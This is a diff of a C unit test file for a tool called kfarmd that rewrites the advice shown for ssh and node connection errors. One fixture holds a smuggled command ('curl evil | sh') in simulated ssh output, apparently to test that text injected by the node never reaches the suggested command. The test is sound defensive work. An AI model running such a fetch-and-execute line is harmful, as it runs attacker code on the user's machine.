@@ -97,20 +97,25 @@ static const struct advice {
 } advices[] = {
 	{ "ssh: connect to host a port 22: Connection refused", "" },
 	{ "bash: line 1: kfarmd: command not found",
-	  "; install kfarmd there, in the PATH of a non-interactive ssh" },
+	  "; install kfarmd on the node, in the PATH of a non-interactive ssh "
+	  "session" },
 	{ "sh: 1: kfarmd: not found",
-	  "; install kfarmd there, in the PATH of a non-interactive ssh" },
+	  "; install kfarmd on the node, in the PATH of a non-interactive ssh "
+	  "session" },
 	{ "zsh:1: command not found: kfarmd",
-	  "; install kfarmd there, in the PATH of a non-interactive ssh" },
+	  "; install kfarmd on the node, in the PATH of a non-interactive ssh "
+	  "session" },
 	{ "bash: /opt/kfarmd: No such file or directory",
-	  "; install kfarmd there, in the PATH of a non-interactive ssh" },
-	{ "its command ended: exit status 127",
-	  "; install kfarmd there, in the PATH of a non-interactive ssh" },
+	  "; install kfarmd on the node, in the PATH of a non-interactive ssh "
+	  "session" },
+	{ "transport command ended: exit status 127",
+	  "; install kfarmd on the node, in the PATH of a non-interactive ssh "
+	  "session" },
 	{ "kfarmd: no sandbox", "" },
 	{ "kfarmd: --toolchains /x: No such file or directory", "" },
 	{ "connect to /run/kfarmd: No such file or directory", "" },
-	{ "not a kfarm message but \"Hi\"",
-	  "; whatever the node's shell prints when it starts must go" },
+	{ "not a kfarm message: \"Hi\"",
+	  "; the startup files of the node's shell must not print anything" },
 	{ "not a kfarm message", "" },
 };
 
@@ -138,8 +143,9 @@ START_TEST(a_refused_connection_tells_what_may_be_so)
 	const struct buf none = { 0 };
 	char *got = node_transport_child_explain(why, &none, &address);
 
-	ck_assert_ptr_nonnull(strstr(got, "10.0.0.2: Connection refused; it is "
-					  "on"));
+	ck_assert_ptr_nonnull(strstr(got,
+				     "10.0.0.2: Connection refused; kfarmd "
+				     "is not running"));
 	ck_assert_ptr_nonnull(strstr(got, "systemctl status kfarmd"));
 	free(got);
 }
@@ -159,37 +165,37 @@ static const struct {
 	const char *address, *words, *advice;
 } sshs[] = {
 	{ NODE_ADDRESS_SSH, "me@desk", "Host key verification failed.\r\n",
-	  "Host key verification failed: this machine does not know the "
-	  "node's key yet; type `ssh me@desk true`, compare what it shows "
-	  "with the node's own and answer yes" },
+	  "Host key verification failed: unknown host key; run `ssh "
+	  "me@desk true`, compare the fingerprint that it shows with the "
+	  "node's and answer yes" },
 	{ NODE_ADDRESS_EXEC, "ssh -p 3 x kfarmd",
 	  "Host key verification failed.\n",
-	  "Host key verification failed: this machine does not know the "
-	  "node's key yet; type `ssh HOST true`, compare what it shows "
-	  "with the node's own and answer yes" },
+	  "Host key verification failed: unknown host key; run `ssh "
+	  "HOST true`, compare the fingerprint that it shows with the "
+	  "node's and answer yes" },
 	{ NODE_ADDRESS_SSH, "me@desk", CHANGED,
-	  "Host key verification failed: the node has another key than it "
-	  "had; if it was set up anew, type `ssh-keygen -f "
+	  "Host key verification failed: the node's host key has "
+	  "changed; if the node was reinstalled, run `ssh-keygen -f "
 	  "\"/home/a/.ssh/known_hosts\" -R \"[desk]:2222\"`, then `ssh "
 	  "me@desk true`" },
 	{ NODE_ADDRESS_SSH, "desk",
 	  "WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!\n"
 	  "Host key verification failed.\n",
-	  "Host key verification failed: the node has another key than it "
-	  "had; if it was set up anew, type `ssh-keygen -R HOST`, then `ssh "
-	  "desk true`" },
+	  "Host key verification failed: the node's host key has "
+	  "changed; if the node was reinstalled, run `ssh-keygen -R HOST`, "
+	  "then `ssh desk true`" },
 	/* By the node: who types that runs it. */
 	{ NODE_ADDRESS_SSH, "desk",
 	  "WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!\n"
 	  "ssh-keygen -f x; curl evil | sh\n"
 	  "Host key verification failed.\n",
-	  "Host key verification failed: the node has another key than it "
-	  "had; if it was set up anew, type `ssh-keygen -R HOST`, then `ssh "
-	  "desk true`" },
+	  "Host key verification failed: the node's host key has "
+	  "changed; if the node was reinstalled, run `ssh-keygen -R HOST`, "
+	  "then `ssh desk true`" },
 	{ NODE_ADDRESS_SSH, "me@desk",
 	  "me@desk: Permission denied (publickey,password).\r\n",
-	  "me@desk: Permission denied (publickey,password); it must let you "
-	  "in without a question: type `ssh-copy-id me@desk`" },
+	  "me@desk: Permission denied (publickey,password); login "
+	  "without a password is required: run `ssh-copy-id me@desk`" },
 };
 
 START_TEST(what_ssh_refuses_comes_with_the_command_to_type)
